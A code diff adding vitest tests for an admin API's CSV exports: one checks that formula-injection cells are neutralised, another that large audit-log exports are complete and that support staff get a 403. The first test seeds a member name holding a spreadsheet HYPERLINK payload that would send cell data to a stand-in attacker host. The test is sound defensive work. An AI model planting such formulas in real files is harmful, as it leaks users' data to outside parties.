@@ -1,7 +1,8 @@
-import { and, eq } from 'drizzle-orm';
+import { and, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { auditLog } from '../../../src/server/db/schema/index.ts';
+import { auditLog, members } from '../../../src/server/db/schema/index.ts';
 import { createTestApp, type TestApp } from '../../support/test-app.ts';
+import { aMember } from '../../support/factories.ts';
 import { ADMIN, aStaff, adminRequest } from './admin-support.ts';
 
 /** The back office's answers and lane (decision 0237): never cached, refusals traced, a bounded lane of its own. */
@@ -64,5 +65,39 @@ describe('the admin API description', () => {
       await publicShop.close();
     }
     expect((await t.app.request(`${ADMIN}/openapi.json`)).status).toBe(200);
+  });
+});
+
+describe('CSV exports', () => {
+  const csvOf = async (cookie: string, path: string) => {
+    const res = await t.app.request(`${ADMIN}${path}`, { headers: { cookie } });
+    return { status: res.status, type: res.headers.get('content-type') ?? '', text: await res.text() };
+  };
+
+  it('neutralise cells a spreadsheet would run as formulas', async () => {
+    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    const m = await aMember(t, { name });
+    const support = await (await aStaff(t, 'support')).client();
+    const [row] = await t.db.select({ phone: members.phone_e164 }).from(members).where(eq(members.id, m.id));
+    const csv = await csvOf(support.cookie, `/members/export.csv?filter=${encodeURIComponent(JSON.stringify({ q: row.phone.slice(-8) }))}`);
+    expect(csv.status).toBe(200);
+    expect(csv.type).toMatch(/^text\/csv/);
+    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`);
+    for (const line of csv.text.trim().split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r]/);
+  });
+
+  it('hold every row, past a thousand, never a silently short file', async () => {
+    await t.db.execute(
+      sql`insert into audit_log (staff_email, action, resource, object_id, at) select 'bulk@staff.test', 'bulk_export_test', 'banners', g::text, now() from generate_series(1, 1214) g`,
+    );
+    const admin = await (await aStaff(t, 'admin')).client();
+    const csv = await csvOf(
+      admin.cookie,
+      `/audit-log/export.csv?filter=${encodeURIComponent(JSON.stringify({ action: 'bulk_export_test' }))}`,
+    );
+    expect(csv.status).toBe(200);
+    expect(csv.text.trim().split('\r\n')).toHaveLength(1215);
+    const support = await (await aStaff(t, 'support')).client();
+    expect((await csvOf(support.cookie, '/audit-log/export.csv')).status).toBe(403);
   });
 });
